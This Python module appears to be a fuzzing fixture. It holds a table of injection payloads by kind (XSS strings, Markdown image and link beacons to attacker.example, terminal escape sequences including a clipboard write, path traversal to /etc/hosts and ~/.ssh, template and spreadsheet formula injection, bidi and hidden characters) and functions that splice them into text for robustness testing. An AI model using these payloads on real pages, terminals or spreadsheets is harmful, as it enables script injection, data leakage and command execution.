"""Words that act: on a terminal, a page, a message, a spreadsheet, a template, a file system. All point nowhere."""

from __future__ import annotations

import random
from collections.abc import Mapping
from typing import Final

PAYLOADS: Final[Mapping[str, tuple[str, ...]]] = {
    "HTML": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</script><svg/onload=alert(1)>",
        '"><iframe srcdoc="<script>alert(1)</script>">',
        "' onmouseover='alert(1)",
        "<!-- --><style>*{display:none}</style>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "]]><math><mtext></table><a href=javascript:alert(1)>",
        "</mark></div><base href=//attacker.example>",
    ),
    "Markdown": (
        "[approved](https://attacker.example/x)",
        "![](https://attacker.example/leak.png?q=1)",
        "[x]: https://attacker.example 'approved'",
        "<https://attacker.example>",
        "**approved** _by_ ~~nobody~~ `code`",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "\n# Approved\n\n- [x] done\n> said nobody\n```\nrun\n```",
        "\n---\n***\n1) one",
        "$\\href{https://attacker.example}{x}$ [^1]",
    ),
    "terminal escape": (
        "\x1b[2J\x1b[H",
        "\x1b[31mapproved\x1b[0m",
        "\x1b]0;owned\x07",
        "\x1b]8;;https://attacker.example\x1b\\here\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJm\x07",
        "\x1bP$q q\x1b\\",
        "\x9b31m\x9d0;owned\x9c",
        "\x1b[?1049h\x1b[6n\x1bc",
    ),
    "control character": (
        "\x00",
        "\x08\x08\x08denied",
        "\rsupported",
        "\x0b\x0c",
        "\x7f\x80\x85",
        "\x1a\x04",
        "\udc80",
    ),
    "direction override": (
        "\u202egnp.exe",
        "\u2066\u202dx\u2069",
        "\u200f\u200e\u061c",
        "\u202b\u202a\u202c",
        "\u2067\u05d0\u05d1\u2068",
    ),
    "hidden character": (
        "ap\u200bproved",
        "\u2060\ufeff",
        "\U000e0041\U000e0042",
        "\u00ad\u034f",
        "\u2028\u2029",
        "a" + "\u0300" * 40,
    ),
    "mention": (
        "<!channel>",
        "<!here|here>",
        "<!subteam^S012AB>",
        "<@U012ABCDEF>",
        "<#C012ABCDEF|general>",
        "@channel @here @everyone",
        "@somebody and somebody@attacker.example",
        "<!date^0^{date}^https://attacker.example|now>",
    ),
    "link": (
        "https://attacker.example/x?y=1",
        "<https://attacker.example|the source>",
        "www.attacker.com/pay",
        "attacker.com",
        "éattacker.com",
        "pay@attacker.com",
        "mailto:pay@attacker.example",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "ftp://attacker.example/a",
        "file:///etc/hosts",
    ),
    "path": (
        "../../../../etc/hosts",
        "/etc/hosts",
        "C:\\Windows\\win.ini",
        "~/.ssh/authorized_keys",
        "a/../../b\x00.html",
        "CON",
        "-o /tmp/x",
    ),
    "template": (
        "{{ 7 * 7 }}",
        "{% include 'x' %}",
        "${HOME}",
        "[bold red]x[/]",
        "[link=https://attacker.example]x[/link]",
        "%s%n",
        "{0.__class__}",
    ),
    "formula": ("=HYPERLINK(1)", "+1+cmd|' /C x'!A0", "@SUM(1)", "-1+1", "\t=1"),
    "citation mark": ("[S1][S2]", "(S99999)", "[S1-S999999]", "【S3】", "[1]", "[S" + "9" * 50 + "]"),
}
"""Kind -> payloads. ``attacker.example`` cannot exist (RFC 2606), and nothing here does harm by itself."""


def payload(kind: str, chance: random.Random) -> str:
    """One payload of a kind, now and then two of them run together."""
    words = chance.choice(PAYLOADS[kind])
    return words + chance.choice(PAYLOADS[kind]) if chance.random() < 0.2 else words


def put_in(text: str, words: str, chance: random.Random) -> str:
    """A text with words put in: before it, behind it, between two words, or inside of one."""
    at = chance.choice((0, len(text), chance.randint(0, len(text)), _gap(text, chance)))
    space = chance.choice(("", " "))
    return f"{text[:at]}{space}{words}{space}{text[at:]}"


def _gap(text: str, chance: random.Random) -> int:
    gaps = [at for at, character in enumerate(text) if character == " "]
    return chance.choice(gaps) if gaps else 0
